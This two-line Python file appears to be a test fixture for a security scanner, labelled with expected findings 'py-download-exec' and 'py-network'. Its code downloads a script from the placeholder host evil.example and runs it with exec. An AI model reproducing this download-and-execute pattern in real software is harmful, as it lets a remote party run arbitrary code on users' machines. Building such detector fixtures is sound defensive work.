# expect: py-download-exec,py-network
import requests
exec(requests.get('https://evil.example/p.py').text)
